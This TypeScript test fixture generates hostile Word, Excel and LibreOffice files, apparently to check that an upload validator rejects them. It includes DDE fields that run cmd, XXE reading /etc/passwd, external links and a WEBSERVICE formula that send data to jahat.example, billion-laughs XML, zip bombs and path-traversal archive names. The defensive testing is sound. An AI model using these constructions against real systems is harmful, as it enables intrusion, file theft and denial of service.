import { deflateRawSync } from 'node:zlib';
import { docx, docxTypes, odfContent, ods, odt, odtManifest, paragraph, relation, relations, sheet, wordBody, xlsx, type Parts } from './office.js';
import { latin, noise, type Hostile } from './sample.js';
import { zip, type ZipEntry } from './zip.js';

const file = (nama: string, apa: string, kode: string, buat: () => Buffer): Hostile => ({ nama, apa, kode, buat });
const OLE = Buffer.concat([latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), noise(2_000)]);
const DOCUMENT = 'word/_rels/document.xml.rels';
const outside = ' TargetMode="External"';
const word = (apa: string, kode: string, parts: () => Parts): Hostile => file(`${apa.toLowerCase().replace(/[^a-z0-9]+/g, '-')}.docx`, apa, kode, () => docx(parts()));
const linked = (apa: string, kode: string, row: string): Hostile => word(apa, kode, () => ({ [DOCUMENT]: relations(row) }));
const body = (apa: string, kode: string, xml: string): Hostile => word(apa, kode, () => ({ 'word/document.xml': wordBody(xml) }));
const calc = (apa: string, kode: string, parts: () => Parts): Hostile => file(`${apa.toLowerCase().replace(/[^a-z0-9]+/g, '-')}.xlsx`, apa, kode, () => xlsx(parts()));
const libre = (apa: string, kode: string, parts: () => Parts): Hostile => file(`${apa.toLowerCase().replace(/[^a-z0-9]+/g, '-')}.odt`, apa, kode, () => odt(parts()));
const run = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...pieces: readonly string[]): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map(run).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** Macros, objects, fields and links of Word, Excel and LibreOffice. */
export const ACTIVE_OFFICE: readonly Hostile[] = [
  file('makro.docm', 'docm', 'jenis-tidak-diterima', () => docx({ 'word/vbaProject.bin': OLE })),
  file('makro.xlsm', 'xlsm', 'jenis-tidak-diterima', () => xlsx({ 'xl/vbaProject.bin': OLE })),
  file('makro.pptm', 'pptm', 'jenis-tidak-diterima', () => docx({ 'ppt/vbaProject.bin': OLE })),
  word('vbaProject di dalam docx', 'makro', () => ({ 'word/vbaProject.bin': OLE })),
  word('vbaProject dengan nama lain', 'bagian-tidak-dikenal', () => ({ 'word/gambar.bin': OLE })),
  word('vbaProject di balik nama gambar', 'bukan-jenisnya', () => ({ 'word/media/gambar.png': OLE })),
  word('docm dengan nama docx', 'makro', () => ({ '[Content_Types].xml': docxTypes().replace('vnd.openxmlformats-officedocument.wordprocessingml.document.main', 'vnd.ms-word.document.macroEnabled.main') })),
  linked('hubungan vbaProject', 'makro', relation('r9', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'x.xml')),
  calc('lembar makro Excel 4', 'makro', () => ({ 'xl/macrosheets/sheet1.xml': sheet('') })),
  calc('pita dengan tindakan', 'makro', () => ({ 'customUI/customUI.xml': '<customUI xmlns="x" onLoad="Jahat"/>' })),
  body('medan DDEAUTO', 'perintah-dde', field(String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`)),
  body('medan DDE terpotong-potong', 'perintah-dde', field(' D', 'DE', 'AUTO c:\\\\x "/k calc"')),
  body('medan DDE pada fldSimple', 'perintah-dde', '<w:p><w:fldSimple w:instr=" DDE cmd calc"/></w:p>'),
  body('medan DDE dengan kode karakter XML', 'perintah-dde', '<w:p><w:fldSimple w:instr="&#68;&#x44;EAUTO cmd"/></w:p>'),
  body('medan DDE tersusun dari QUOTE', 'perintah-dde', field('QUOTE 68 68 69 65 85 84 79')),
  body('medan INCLUDEPICTURE', 'tautan-luar', field('INCLUDEPICTURE "http://jahat.example/x.png" \\d')),
  body('medan INCLUDETEXT', 'tautan-luar', field('INCLUDETEXT "\\\\\\\\jahat.example\\\\x.docx"')),
  linked('templat luar', 'tautan-luar', relation('r9', 'attachedTemplate', 'http://jahat.example/t.dotm', outside)),
  linked('gambar luar', 'tautan-luar', relation('r9', 'image', 'http://jahat.example/x.png', outside)),
  linked('gambar luar dengan huruf campur', 'tautan-luar', relation('r9', 'image', 'http://jahat.example/x.png', " TargetMode='eXternal'")),
  linked('gambar luar dengan kode karakter', 'tautan-luar', relation('r9', 'image', 'http://jahat.example/x.png', ' TargetMode="&#69;xternal"')),
  linked('tautan ke berbagi jaringan', 'tautan-luar', relation('r9', 'hyperlink', 'file://jahat.example/x', outside)),
  linked('tautan skrip', 'tautan-luar', relation('r9', 'hyperlink', 'javascript:alert(1)', outside)),
  linked('bingkai luar', 'tautan-luar', relation('r9', 'frame', 'http://jahat.example/', outside)),
  linked('sasaran mutlak tanpa TargetMode', 'tautan-luar', relation('r9', 'image', 'http://jahat.example/x.png')),
  linked('objek OLE', 'objek-tertanam', relation('r9', 'oleObject', 'embeddings/oleObject1.bin')),
  word('paket OLE tertanam', 'objek-tertanam', () => ({ 'word/embeddings/oleObject1.bin': OLE })),
  word('docx tertanam', 'objek-tertanam', () => ({ 'word/embeddings/lain.docx': docx() })),
  word('ActiveX', 'objek-tertanam', () => ({ 'word/activeX/activeX1.xml': '<ax:ocx xmlns:ax="x" ax:classid="{0}"/>' })),
  body('altChunk', 'objek-tertanam', '<w:altChunk r:id="r9"/>'),
  word('HTML di dalam docx', 'bagian-tidak-dikenal', () => ({ 'word/potongan.html': '<script>1</script>' })),
  word('program di dalam docx', 'bagian-tidak-dikenal', () => ({ 'word/media.exe': latin('MZ\x90\0') })),
  word('SVG di dalam docx', 'naskah-tersembunyi', () => ({ 'word/media/gambar.svg': '<svg xmlns="x"/>' })),
  calc('lembar kerja bermakro di balik bagan', 'makro', () => ({
    'xl/charts/chart1.xml': '<c:chart xmlns:c="x"/>', 'xl/charts/_rels/chart1.xml.rels': relations(relation('r1', 'package', '../embeddings/buku.xlsx')), 'xl/embeddings/buku.xlsx': xlsx({ 'xl/vbaProject.bin': OLE }),
  })),
  calc('tautan ke buku kerja lain', 'tautan-luar', () => ({ 'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="x"/>' })),
  calc('sambungan data', 'tautan-luar', () => ({ 'xl/connections.xml': '<connections xmlns="x"/>' })),
  calc('ddeLink', 'perintah-dde', () => ({ 'xl/dde.xml': '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' })),
  calc('rumus yang menjalankan perintah', 'perintah-dde', () => ({ 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|'/c calc'!A0</f></c>`) })),
  calc('rumus WEBSERVICE', 'tautan-luar', () => ({ 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>_xlfn.WEBSERVICE("http://jahat.example/?"&amp;A2)</f></c>') })),
  libre('makro Basic', 'makro', () => ({ 'Basic/Standard/Modul1.xml': '<a/>' })),
  libre('skrip Python', 'makro', () => ({ 'Scripts/python/jahat.py': 'import os' })),
  libre('tindakan saat dibuka', 'makro', () => ({ 'content.xml': odfContent('text', '<text:p/>', '<office:scripts><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:scripts>') })),
  libre('gambar dari luar', 'tautan-luar', () => ({ 'content.xml': odfContent('text', '<draw:frame><draw:image xlink:href="http://jahat.example/x.png"/></draw:frame>') })),
  libre('bagian dari berkas lain', 'tautan-luar', () => ({ 'content.xml': odfContent('text', '<text:section><text:section-source xlink:href="../rahasia.odt"/></text:section>') })),
  libre('tautan dengan skrip', 'tautan-luar', () => ({ 'content.xml': odfContent('text', '<text:p><text:a xlink:href="vnd.sun.star.script:x">a</text:a></text:p>') })),
  libre('objek OLE di LibreOffice', 'objek-tertanam', () => ({ 'Object 1': OLE })),
  libre('bersandi', 'bersandi', () => ({ 'META-INF/manifest.xml': odtManifest('<manifest:file-entry manifest:full-path="x"><manifest:encryption-data/></manifest:file-entry>') })),
  file('sumber-dde.ods', 'sumber DDE pada tabel', 'perintah-dde', () => ods({ 'content.xml': odfContent('spreadsheet', '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>') })),
  file('rumus-dde.ods', 'rumus DDE pada tabel', 'perintah-dde', () => ods({ 'content.xml': odfContent('spreadsheet', `<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/></table:table-row></table:table>`) })),
];

const LAUGHS = `<!DOCTYPE a [<!ENTITY a "tawa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
const XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>';
const OPEN = '<?xml version="1.0" encoding="UTF-8"?>';
const xml = (declaration: string, text: string): string => `${OPEN}${declaration}${wordBody(paragraph(text)).replace(/^<\?xml[^>]*\?>\s*/, '')}`;

/** XML that reads files, grows without end, or is not what it says. */
export const XML: readonly Hostile[] = [
  word('XXE pada document', 'entitas-xml', () => ({ 'word/document.xml': xml(XXE, '&amp;b;') })),
  word('XXE pada hubungan', 'entitas-xml', () => ({ [DOCUMENT]: `${OPEN}${XXE}<Relationships/>` })),
  word('XXE pada sifat dokumen', 'entitas-xml', () => ({ 'docProps/core.xml': `${OPEN}${XXE}<a>&b;</a>` })),
  word('XXE dalam UTF-16', 'entitas-xml', () => ({ 'word/document.xml': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml(XXE, 'a').replace('UTF-8', 'UTF-16'), 'utf16le')]) })),
  word('miliaran tawa', 'entitas-xml', () => ({ 'word/document.xml': xml(LAUGHS, '&amp;j;') })),
  word('DTD luar', 'entitas-xml', () => ({ 'word/document.xml': xml('<!DOCTYPE a SYSTEM "http://jahat.example/a.dtd">', 'a') })),
  word('entitas tanpa DTD', 'entitas-xml', () => ({ 'word/document.xml': xml('', '&jahat;') })),
  word('UTF-16 tanpa tanda', 'xml-rusak', () => ({ 'word/document.xml': Buffer.from(xml('', 'a'), 'utf16le') })),
  word('penyandian UTF-7', 'xml-rusak', () => ({ 'word/document.xml': xml('', 'a').replace('UTF-8', 'UTF-7') })),
  word('tag tidak ditutup', 'xml-rusak', () => ({ 'word/document.xml': xml('', 'a').replace('</w:body>', '') })),
  word('bersarang tanpa akhir', 'xml-rusak', () => ({ 'word/document.xml': `${OPEN}${'<a>'.repeat(100_000)}` })),
  word('atribut tanpa akhir', 'xml-rusak', () => ({ 'word/document.xml': `${OPEN}<a b="${'x'.repeat(3_000_000)}"/>` })),
  libre('XXE pada content', 'entitas-xml', () => ({ 'content.xml': `${OPEN}${XXE}<a>&b;</a>` })),
  libre('miliaran tawa pada styles', 'entitas-xml', () => ({ 'styles.xml': `${OPEN}${LAUGHS}<a>&j;</a>` })),
  libre('lembar gaya luar', 'tautan-luar', () => ({ 'content.xml': `${OPEN}<?xml-stylesheet href="http://jahat.example/x.xsl" type="text/xsl"?><a/>` })),
];

const MB = 1024 * 1024;
const one = (entry: ZipEntry): Buffer => docx({}, undefined, [entry]);
const odd = (apa: string, kode: string, buat: () => Buffer): Hostile => file(`${apa.toLowerCase().replace(/[^a-z0-9]+/g, '-')}.docx`, apa, kode, buat);
const repeated = (times: number, entry: Omit<ZipEntry, 'nama'>): ZipEntry[] => Array.from({ length: times }, (_, i) => ({ nama: `word/media/${i}.png`, ...entry }));
const zeros = (bytes: number): Buffer => deflateRawSync(Buffer.alloc(bytes));
const nested = (depth: number): Buffer => (depth === 0 ? Buffer.alloc(MB) : zip([{ nama: 'a.zip', isi: nested(depth - 1) }, { nama: 'b.zip', isi: nested(depth - 1) }]));

/** Archives that unfold without end, or in which two programs see two things. */
export const ARCHIVES: readonly Hostile[] = [
  odd('bom rasio', 'bom-arsip', () => one({ nama: 'word/media/a.png', isi: '', packed: zeros(64 * MB), claims: 64 * MB })),
  odd('bom jumlah', 'bom-arsip', () => docx({}, undefined, repeated(90, { isi: '', packed: zeros(10 * MB), claims: 10 * MB }))),
  odd('bom yang mengaku kecil', 'bom-arsip', () => one({ nama: 'word/media/a.png', isi: '', packed: deflateRawSync(Buffer.concat([latin('\x89PNG\r\n\x1a\n'), Buffer.alloc(20 * MB)])), claims: 100 })),
  odd('bom arsip bertingkat', 'bagian-tidak-dikenal', () => docx({ 'word/a.zip': nested(6) })),
  odd('bom 42', 'objek-tertanam', () => docx({ 'word/fonts/a.odttf': nested(4) })),
  odd('bagian bertumpuk', 'arsip-tidak-wajar', () => zip([{ nama: '[Content_Types].xml', isi: docxTypes() }, ...Array.from({ length: 200 }, (_, i) => ({ nama: `word/media/${i}.png`, isi: docxTypes() }))], { overlap: true })),
  odd('terlalu banyak bagian', 'bom-arsip', () => docx({}, undefined, repeated(5_000, { isi: '', stored: true }))),
  odd('bagian dipakai dua kali', 'arsip-tidak-wajar', () => one({ nama: 'word/document.xml', isi: wordBody('') })),
  odd('bagian dipakai dua kali dengan huruf besar', 'arsip-tidak-wajar', () => one({ nama: 'WORD/document.xml', isi: wordBody('') })),
  odd('nama keluar folder', 'nama-bagian', () => one({ nama: '../../../etc/cron.d/x', isi: 'x' })),
  odd('nama keluar folder dengan garis miring balik', 'nama-bagian', () => one({ nama: '..\\..\\x.exe', isi: 'x' })),
  odd('nama mutlak', 'nama-bagian', () => one({ nama: '/etc/passwd', isi: 'x' })),
  odd('nama dengan huruf drive', 'nama-bagian', () => one({ nama: 'C:/x.exe', isi: 'x' })),
  odd('nama dengan karakter kendali', 'nama-bagian', () => one({ nama: 'word/a\0.xml', isi: '<a/>' })),
  odd('tautan simbolis', 'arsip-tidak-wajar', () => one({ nama: 'word/media/a.png', isi: '/etc/passwd', stored: true, mode: 0o120777 })),
  odd('bagian bersandi', 'bersandi', () => one({ nama: 'word/media/a.png', isi: 'x', flags: 1 })),
  odd('cara pemampatan lain', 'arsip-tidak-wajar', () => one({ nama: 'word/media/a.png', isi: 'x', method: 14 })),
  odd('nama kepala berbeda', 'arsip-tidak-wajar', () => one({ nama: 'word/media/a.png', localName: 'word/media/a.exe', isi: 'x' })),
  odd('nama Unicode kedua', 'nama-bagian', () => one({ nama: 'word/media/a.png', isi: 'x', extra: Buffer.from('7570090001aabbccdd612e657865', 'hex').subarray(0, 13) })),
  odd('isi di depan arsip', 'arsip-tidak-wajar', () => docx({}, { before: Buffer.concat([latin('PK\x03\x04'), noise(64)]) })),
  odd('isi di antara bagian', 'arsip-tidak-wajar', () => docx({}, { between: latin('<script>1</script>') })),
  odd('isi di belakang arsip', 'sisa-di-akhir', () => docx({}, { behind: latin('MZ\x90\0') })),
  odd('arsip terpotong', 'terpotong', () => docx().subarray(0, 400)),
];
